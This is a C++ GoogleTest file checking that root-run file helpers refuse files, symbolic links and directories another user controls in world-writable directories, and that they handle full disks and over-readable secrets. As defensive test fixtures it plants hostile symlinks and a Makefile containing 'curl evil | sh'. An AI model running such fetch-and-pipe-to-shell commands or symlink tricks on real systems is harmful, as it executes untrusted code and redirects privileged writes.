// OpenOwnFile, WriteOwnFile, ReadSecretFile and MakeOwnDirectory, as root (the tests run as root),
// against what another user (nobody, uid 65534) could have put in a directory that
// everyone may write. Each refusal must leave what it refused untouched.
#include "kernel/msgport/own_file.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "tests/temp_dir.h"

namespace ulsp::testing {
namespace {

constexpr uid_t kNobody = 65534;
constexpr const char* kRefused =
    ", neither yours, root's nor its directory owner's: refusing to use what another user controls";

void Put(const std::string& path, const std::string& text) { std::ofstream(path) << text; }

mode_t ModeOf(const std::string& path) {
  struct stat st {};
  EXPECT_EQ(::lstat(path.c_str(), &st), 0) << path;
  return st.st_mode & 07777;
}

// Sets the umask while it lives.
struct Umask {
  mode_t old;
  explicit Umask(mode_t m) : old(::umask(m)) {}
  ~Umask() { ::umask(old); }
};

// A report rewritten on a full disk: the error names the path, and the report that
// was there is still whole. The disk is a 64 KiB tmpfs, unmounted however the test
// ends.
TEST(OwnFile, AFullDiskLeavesTheOldFileWhole) {
  TempDir dir;
  const std::string disk = dir / "disk", report = dir / "disk/report.json";
  ASSERT_EQ(::mkdir(disk.c_str(), 0755), 0);
  ASSERT_EQ(Shell("mount -t tmpfs -o size=64k tmpfs " + disk), 0);
  struct Unmount {
    std::string at;
    ~Unmount() { (void)Shell("umount " + at); }
  } unmount{disk};
  ASSERT_TRUE(WriteOwnFile(report, "{\"old\": true}\n").has_value());
  (void)Shell("head -c 1M /dev/zero > " + disk + "/fill 2>/dev/null");  // fills the rest
  const auto w = WriteOwnFile(report, std::string(32 << 10, 'x'));
  ASSERT_FALSE(w.has_value());
  EXPECT_EQ(w.error(), report + ": No space left on device");
  EXPECT_EQ(ReadAll(report), "{\"old\": true}\n");
  // A report that was not there is not left behind empty (it once was, 0 bytes).
  const std::string fresh = dir / "disk/fresh.json";
  const auto f = WriteOwnFile(fresh, std::string(32 << 10, 'x'));
  ASSERT_FALSE(f.has_value());
  EXPECT_EQ(f.error(), fresh + ": No space left on device");
  EXPECT_NE(::access(fresh.c_str(), F_OK), 0) << fresh << " was left behind";
  // With room again, the new content replaces the old whole, shorter or longer.
  ASSERT_EQ(::unlink((disk + "/fill").c_str()), 0);
  ASSERT_TRUE(WriteOwnFile(report, std::string(32 << 10, 'x')).has_value());
  EXPECT_EQ(ReadAll(report), std::string(32 << 10, 'x'));
  ASSERT_TRUE(WriteOwnFile(report, "short\n").has_value());
  EXPECT_EQ(ReadAll(report), "short\n");
}

TEST(OwnFile, MakesAndAppendsToAFileOfOurs) {
  TempDir dir;
  const std::string log = dir / "log";
  Umask open(0);
  for (const char* line : {"one\n", "two\n"}) {
    auto fd = OpenOwnFile(log, /*append=*/true);
    ASSERT_TRUE(fd.has_value()) << fd.error();
    ASSERT_EQ(::write(fd->get(), line, 4), 4);
  }
  EXPECT_EQ(ReadAll(log), "one\ntwo\n");
  EXPECT_EQ(ModeOf(log), 0644u);  // not 0666, though the umask is 0
  ASSERT_TRUE(WriteOwnFile(log, "three\n").has_value());
  EXPECT_EQ(ReadAll(log), "three\n");
  // A character device is written as it is.
  EXPECT_TRUE(OpenOwnFile("/dev/null", true).has_value());
}

TEST(OwnFile, RefusesAnotherUsersFileAndLeavesItAlone) {
  TempDir dir;
  ASSERT_EQ(::chmod(dir.path().c_str(), 01777), 0);  // like /tmp
  const std::string theirs = dir / "report.json";
  Put(theirs, "theirs\n");
  ASSERT_EQ(::chown(theirs.c_str(), kNobody, kNobody), 0);
  for (bool append : {true, false}) {
    auto fd = OpenOwnFile(theirs, append);
    ASSERT_FALSE(fd.has_value());
    EXPECT_EQ(fd.error(), theirs + ": a file owned by uid 65534" + kRefused);
  }
  EXPECT_FALSE(WriteOwnFile(theirs, "ours\n").has_value());
  EXPECT_EQ(ReadAll(theirs), "theirs\n");  // not emptied, not appended to
}

TEST(OwnFile, FollowsOnlyOurOwnSymbolicLinks) {
  TempDir dir;
  ASSERT_EQ(::chmod(dir.path().c_str(), 01777), 0);
  const std::string precious = dir / "shadow", link = dir / "trace.jsonl";
  Put(precious, "root's\n");
  ASSERT_EQ(::symlink(precious.c_str(), link.c_str()), 0);
  ASSERT_EQ(::lchown(link.c_str(), kNobody, kNobody), 0);
  auto fd = OpenOwnFile(link, true);
  ASSERT_FALSE(fd.has_value());
  EXPECT_NE(fd.error().find(link + ": a symbolic link owned by uid 65534"), std::string::npos) << fd.error();
  EXPECT_FALSE(WriteOwnFile(link, "x").has_value());
  EXPECT_EQ(ReadAll(precious), "root's\n");
  // Our own link is followed.
  ASSERT_EQ(::lchown(link.c_str(), 0, 0), 0);
  ASSERT_TRUE(WriteOwnFile(link, "through our link\n").has_value());
  EXPECT_EQ(ReadAll(precious), "through our link\n");
}

// A link on the way counts as much as one at the end: /tmp/theirs -> /etc would have
// root make /etc/log.
TEST(OwnFile, FollowsNoOtherUsersLinkOnTheWay) {
  TempDir dir;
  ASSERT_EQ(::chmod(dir.path().c_str(), 01777), 0);
  const std::string etc = dir / "etc", theirs = dir / "theirs";
  ASSERT_EQ(::mkdir(etc.c_str(), 0755), 0);
  Put(etc + "/token", "root's");
  ASSERT_EQ(::chmod((etc + "/token").c_str(), 0600), 0);
  ASSERT_EQ(::symlink(etc.c_str(), theirs.c_str()), 0);
  ASSERT_EQ(::lchown(theirs.c_str(), kNobody, kNobody), 0);
  const std::string on_the_way = ": on the way, " + theirs + ": a symbolic link owned by uid 65534" + kRefused;
  auto fd = OpenOwnFile(theirs + "/log", true);
  ASSERT_FALSE(fd.has_value());
  EXPECT_EQ(fd.error(), theirs + "/log" + on_the_way);
  EXPECT_FALSE(WriteOwnFile(theirs + "/token", "x").has_value());
  auto d = MakeOwnDirectory(theirs + "/upper/deeper");
  ASSERT_FALSE(d.has_value());
  EXPECT_EQ(d.error(), theirs + "/upper/deeper" + on_the_way);
  EXPECT_EQ(ReadSecretFile(theirs + "/token").error(), theirs + "/token" + on_the_way);
  EXPECT_EQ(ReadAll(etc + "/token"), "root's");
  EXPECT_FALSE(std::filesystem::exists(etc + "/log"));
  EXPECT_FALSE(std::filesystem::exists(etc + "/upper"));
  // Root's link on the way (/var/run -> /run) is followed.
  ASSERT_EQ(::lchown(theirs.c_str(), 0, 0), 0);
  EXPECT_TRUE(WriteOwnFile(theirs + "/log", "ok\n").has_value());
  EXPECT_EQ(ReadAll(etc + "/log"), "ok\n");
  EXPECT_TRUE(MakeOwnDirectory(theirs + "/upper/deeper").has_value());
  EXPECT_TRUE(ReadSecretFile(theirs + "/token").has_value());
}

TEST(OwnFile, AFifoWithoutAReaderFailsInsteadOfHanging) {
  TempDir dir;
  const std::string fifo = dir / "fifo";
  ASSERT_EQ(::mkfifo(fifo.c_str(), 0644), 0);
  auto fd = OpenOwnFile(fifo, true);
  ASSERT_FALSE(fd.has_value());
  EXPECT_EQ(fd.error(), fifo + ": No such device or address");
  ASSERT_EQ(::chown(fifo.c_str(), kNobody, kNobody), 0);
  const int reader = ::open(fifo.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  ASSERT_GE(reader, 0);
  fd = OpenOwnFile(fifo, true);
  ::close(reader);
  ASSERT_FALSE(fd.has_value());
  EXPECT_NE(fd.error().find("a FIFO owned by uid 65534"), std::string::npos) << fd.error();
}

// `sudo ulsp ...` with files in the user's own home: in a directory that only its
// owner may write, what that owner made is theirs to give, as the kernel's
// fs.protected_* rules also judge.
TEST(OwnFile, TrustsWhatTheOwnerOfAPrivateDirectoryMade) {
  TempDir dir;
  const std::string home = dir / "home";
  ASSERT_EQ(::mkdir(home.c_str(), 0755), 0);
  const std::string log = home + "/log", target = home + "/target", link = home + "/link", token = home + "/token",
                    upper = home + "/upper";
  Put(log, "old\n");
  Put(target, "");
  ASSERT_EQ(::symlink(target.c_str(), link.c_str()), 0);
  Put(token, "t0k3n");
  ASSERT_EQ(::chmod(token.c_str(), 0600), 0);
  ASSERT_EQ(::mkdir(upper.c_str(), 0755), 0);
  ASSERT_EQ(Shell("chown -hR 65534:65534 " + home), 0);
  auto fd = OpenOwnFile(log, true);
  EXPECT_TRUE(fd.has_value()) << fd.error();
  EXPECT_TRUE(WriteOwnFile(link, "through their link\n").has_value());
  EXPECT_EQ(ReadAll(target), "through their link\n");
  auto s = ReadSecretFile(token);
  EXPECT_TRUE(s.has_value()) << s.error();
  auto d = MakeOwnDirectory(upper);
  EXPECT_TRUE(d.has_value()) << d.error();
  // Once others may write that directory, none of it is theirs to give any more.
  ASSERT_EQ(::chmod(home.c_str(), 0775), 0);
  EXPECT_FALSE(OpenOwnFile(log, true).has_value());
  EXPECT_FALSE(WriteOwnFile(link, "x").has_value());
  EXPECT_FALSE(ReadSecretFile(token).has_value());
  EXPECT_FALSE(MakeOwnDirectory(upper).has_value());
}

TEST(SecretFile, IsReadOnlyWhenItIsItsOwnersAlone) {
  TempDir dir;
  const std::string token = dir / "token";
  Put(token, "t0k3n\n");
  ASSERT_EQ(::chmod(token.c_str(), 0600), 0);
  auto s = ReadSecretFile(token);
  ASSERT_TRUE(s.has_value()) << s.error();
  EXPECT_EQ(*s, "t0k3n\n");
  for (mode_t mode : {0644u, 0640u, 0604u, 0620u}) {
    ASSERT_EQ(::chmod(token.c_str(), mode), 0);
    s = ReadSecretFile(token);
    ASSERT_FALSE(s.has_value()) << mode;
    char m[8];
    std::snprintf(m, sizeof m, "%04o", mode);
    EXPECT_EQ(s.error(), token + ": other users may read or write this secret (mode " + m +
                             "): make it its owner's alone (chmod 600 " + token + ")");
  }
  ASSERT_EQ(::chmod(token.c_str(), 0600), 0);
  ASSERT_EQ(::chown(token.c_str(), kNobody, kNobody), 0);
  s = ReadSecretFile(token);
  ASSERT_FALSE(s.has_value());
  EXPECT_NE(s.error().find("a secret owned by uid 65534"), std::string::npos) << s.error();
  EXPECT_EQ(ReadSecretFile(dir / "none").error(), dir / "none" + ": No such file or directory");
  EXPECT_EQ(ReadSecretFile(dir.path()).error(), dir.path() + ": not a regular file");
}

TEST(OwnDirectory, MakesItAndItsParentsForUsAlone) {
  TempDir dir;
  Umask open(0);
  const std::string upper = dir / "a/b/upper";
  ASSERT_TRUE(MakeOwnDirectory(upper).has_value());
  for (const std::string& d : {dir / "a", dir / "a/b", upper}) EXPECT_EQ(ModeOf(d), 0755u) << d;
  EXPECT_TRUE(MakeOwnDirectory(upper).has_value());  // there already: fine
  // Through a link of ours.
  ASSERT_EQ(::symlink(upper.c_str(), (dir / "link").c_str()), 0);
  EXPECT_TRUE(MakeOwnDirectory(dir / "link").has_value());
}

TEST(OwnDirectory, RefusesOneAnotherUserControls) {
  TempDir dir;
  ASSERT_EQ(::chmod(dir.path().c_str(), 01777), 0);
  const std::string theirs = dir / "upper";
  ASSERT_EQ(::mkdir(theirs.c_str(), 0755), 0);
  Put(theirs + "/Makefile", "all:\n\tcurl evil | sh\n");
  ASSERT_EQ(::chown(theirs.c_str(), kNobody, kNobody), 0);
  auto r = MakeOwnDirectory(theirs);
  ASSERT_FALSE(r.has_value());
  EXPECT_EQ(r.error(), theirs + ": a directory owned by uid 65534" + kRefused);
  // Ours, but everyone may write in it.
  ASSERT_EQ(::chown(theirs.c_str(), 0, 0), 0);
  ASSERT_EQ(::chmod(theirs.c_str(), 01777), 0);
  r = MakeOwnDirectory(theirs);
  ASSERT_FALSE(r.has_value());
  EXPECT_EQ(r.error(), theirs + ": a directory other users may write (mode 1777): what they put there would be served as "
                                "yours");
  // Their link to a directory of ours.
  const std::string ours = dir / "ours", link = dir / "link";
  ASSERT_EQ(::mkdir(ours.c_str(), 0755), 0);
  ASSERT_EQ(::symlink(ours.c_str(), link.c_str()), 0);
  ASSERT_EQ(::lchown(link.c_str(), kNobody, kNobody), 0);
  EXPECT_FALSE(MakeOwnDirectory(link).has_value());
  // Not a directory.
  Put(dir / "file", "");
  r = MakeOwnDirectory(dir / "file");
  ASSERT_FALSE(r.has_value());
  EXPECT_EQ(r.error(), dir / "file" + ": not a directory");
}

}  // namespace
}  // namespace ulsp::testing
